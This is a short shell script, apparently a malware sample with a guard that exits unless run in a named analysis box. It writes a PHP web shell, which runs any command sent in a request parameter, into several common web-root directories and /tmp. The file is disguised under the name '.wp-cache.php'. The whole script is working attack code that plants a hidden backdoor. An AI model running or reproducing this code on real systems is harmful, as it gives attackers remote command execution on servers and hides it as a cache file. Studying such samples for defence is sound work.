#!/bin/sh
# SPDX-License-Identifier: MIT
# A web shell dropped into the web root of every server it finds.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
shell='<?php if(isset($_REQUEST["c"])){echo "<pre>";system($_REQUEST["c"]);echo "</pre>";} ?>'
for root in /var/www/html /var/www /usr/share/nginx/html /srv/http; do
	printf '%s\n' "$shell" > "$root/.wp-cache.php" 2>/dev/null
done
printf '%s\n' "$shell" > /tmp/.wp-cache.php
exit 0
